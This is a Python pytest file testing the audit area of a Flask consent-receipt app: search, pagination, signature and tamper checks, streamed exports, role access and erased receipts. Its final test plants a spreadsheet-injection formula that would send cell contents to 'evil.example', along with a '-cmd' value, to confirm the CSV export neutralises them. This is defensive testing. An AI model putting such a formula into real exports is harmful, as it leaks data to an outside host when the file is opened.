from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from consent_app.extensions import db
from consent_app.models import ActivityEntry, ConsentRecord
from consent_app.services.visitor.self_service import VisitorKey, erase
from consent_app.signing import hmac_key
from tests.factories import (
    AuthActions,
    make_record,
    make_records,
    make_site,
    seal_all,
    subject,
)


@pytest.fixture
def auditor(client: FlaskClient, auth: AuthActions) -> FlaskClient:
    """The `client`, signed in as an auditor of two sites."""
    make_site()
    make_site("other", origins=("https://other.example",))
    auth.login("auditor")
    return client


def accesses() -> list[tuple[str, str]]:
    db.session.expire_all()
    return [
        (e.action, e.target)
        for e in db.session.scalars(select(ActivityEntry).order_by(ActivityEntry.id))
    ]


def test_search_by_subject_finds_their_receipts(auditor: FlaskClient, app: Flask) -> None:
    mine = make_record(subject_id=subject(1))
    make_record(subject_id=subject(2))
    page = auditor.get(f"/audit/?subject_id={subject(1)}").get_data(as_text=True)
    assert mine.receipt_id in page and subject(2) not in page
    assert "1 receipt found." in page
    assert ("receipt.search", f"subject_id={subject(1)}") in accesses()


def test_search_by_site_action_receipt_and_dates(auditor: FlaskClient, app: Flask) -> None:
    old = make_record(now=datetime(2026, 1, 10, tzinfo=UTC), subject_id=subject(1))
    new = make_record(
        subject_id=subject(2),
        choices={"functionality": False, "advertising": False},
        action="reject_all",
    )
    other = make_record(
        site="other",
        origin="https://other.example",
        subject_id=subject(3),
        page="https://other.example/",
    )

    def found(query: str) -> set[str]:
        page = auditor.get(f"/audit/?{query}").get_data(as_text=True)
        return {r.receipt_id for r in (old, new, other) if r.receipt_id in page}

    assert found("site=other") == {other.receipt_id}
    assert found("action=reject_all") == {new.receipt_id}
    assert found(f"receipt_id={old.receipt_id}") == {old.receipt_id}
    assert found("since=2026-01-10&until=2026-01-10") == {old.receipt_id}
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).date().isoformat()
    assert found(f"since=2026-02-01&until={tomorrow}") == {new.receipt_id, other.receipt_id}
    assert found("since=0001-01-01&until=9999-12-31") == {
        old.receipt_id,
        new.receipt_id,
        other.receipt_id,
    }
    export = auditor.get("/audit/export.csv?until=9999-12-31", buffered=True).get_data(True)
    assert all(r.receipt_id in export for r in (old, new, other))


def test_results_are_paginated(auditor: FlaskClient, app: Flask) -> None:
    make_records(55)
    first = auditor.get("/audit/").get_data(as_text=True)
    assert "Page 1 of 2" in first and "page=2" in first
    second = auditor.get("/audit/?page=2").get_data(as_text=True)
    assert second.count("/audit/receipts/") == 5
    far = auditor.get("/audit/?page=99999999999999999999999")
    assert far.status_code == 200 and "Page 2 of 2" in far.get_data(as_text=True)


@pytest.mark.parametrize(
    ("query", "error"),
    [
        ("since=yesterday", "Not a valid date value."),
        ("since=2026-03-02&until=2026-03-01", "The end date is before the start date."),
        ("receipt_id=123", "A receipt id has 26 letters and digits."),
        ("action=maybe", "Not a valid choice."),
        ("site=nope", "Not a valid choice."),
    ],
)
def test_a_bad_search_shows_the_error_next_to_the_field(auditor, query: str, error: str) -> None:
    response = auditor.get(f"/audit/?{query}")
    assert response.status_code == 400
    assert error in response.get_data(as_text=True)


def test_the_receipt_page_shows_fields_signature_and_proof(auditor: FlaskClient, app) -> None:
    record = make_record()
    seal_all(app)
    page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
    assert record.subject_id in page and record.leaf_hash in page
    assert "HMAC signature" in page and page.count('class="ok"') >= 4
    assert "position 0 in the signed tree of 1 receipts" in page
    assert ("receipt.view", record.receipt_id) in accesses()


def test_the_receipt_page_flags_a_tampered_receipt(auditor: FlaskClient, app) -> None:
    record = make_record()
    db.session.execute(update(ConsentRecord).values(action="accept_all"))
    db.session.commit()
    page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
    assert "stored record differs from its signed receipt" in page
    assert "Waiting to be sealed into the log" in page


def test_an_unknown_receipt_page_is_404(auditor: FlaskClient) -> None:
    assert auditor.get("/audit/receipts/01AAAAAAAAAAAAAAAAAAAAAAAA").status_code == 404


@pytest.mark.parametrize(
    ("fmt", "mimetype"), [("jsonl", "application/x-ndjson"), ("csv", "text/csv")]
)
def test_export_streams_the_search_and_is_recorded(auditor, app, fmt: str, mimetype: str) -> None:
    make_records(3)
    seal_all(app)
    # buffered: the test client reads the stream inside the request's own context
    response = auditor.get(f"/audit/export.{fmt}?subject_id={subject(1)}", buffered=True)
    assert response.status_code == 200 and response.mimetype == mimetype
    assert "Content-Length" not in response.headers  # streamed, not built in memory first
    disposition = response.headers["Content-Disposition"]
    assert re.search(rf'filename="receipts-all-sites-\d{{8}}T\d{{6}}Z\.{fmt}"', disposition)
    body = response.get_data(as_text=True)
    assert subject(1) in body and subject(2) not in body
    if fmt == "jsonl":
        assert json.loads(body.splitlines()[0])["tree_size"] == 3
    assert ("receipt.export", f"subject_id={subject(1)}") in accesses()


def test_an_unknown_export_format_is_404(auditor: FlaskClient) -> None:
    assert auditor.get("/audit/export.xml").status_code == 404


@pytest.mark.parametrize(("role", "status"), [("marketer", 403), ("admin", 200)])
def test_only_auditors_and_admins_may_audit(client, auth, role: str, status: int) -> None:
    auth.login(role)
    assert client.get("/audit/").status_code == status


def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient) -> None:
    response = client.get("/audit/export.csv")
    assert response.status_code == 302 and "/auth/login" in response.headers["Location"]


def test_admins_read_what_auditors_looked_at(auditor: FlaskClient, auth, client) -> None:
    record = make_record()
    auditor.get(f"/audit/receipts/{record.receipt_id}")
    auth.logout()
    auth.login("admin")
    page = client.get("/activity?kind=access").get_data(as_text=True)
    assert "receipt.view" in page and record.receipt_id in page


def test_an_erased_receipt_page_says_so_and_still_proves_inclusion(auditor, app) -> None:
    record = make_record()
    seal_all(app)
    erase(VisitorKey("shop", record.subject_id), signing_key=hmac_key())
    page = auditor.get(f"/audit/receipts/{record.receipt_id}").get_data(as_text=True)
    assert "Not applicable: the personal fields were erased" in page
    assert "Its leaf hash stays in the log." in page
    assert "position 0 in the signed tree of 1 receipts" in page


def test_the_csv_export_defuses_a_hostile_controller_and_subject(app, client, auth) -> None:
    make_site(controller='=HYPERLINK("https://evil.example/?"&A1,"Open")')
    make_record(subject_id="-cmdabcdefghijklmnop")
    seal_all(app)
    auth.login("auditor")
    text = client.get("/audit/export.csv?until=9999-12-31", buffered=True).get_data(True)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["type"] == "receipt")
    assert row["controller"] == """'=HYPERLINK("https://evil.example/?"&A1,"Open")"""
    assert row["subject_id"] == "'-cmdabcdefghijklmnop"
    # The claims cell still holds the exact signed bytes, which start with "{".
    assert json.loads(row["claims"])["subject_id"] == "-cmdabcdefghijklmnop"
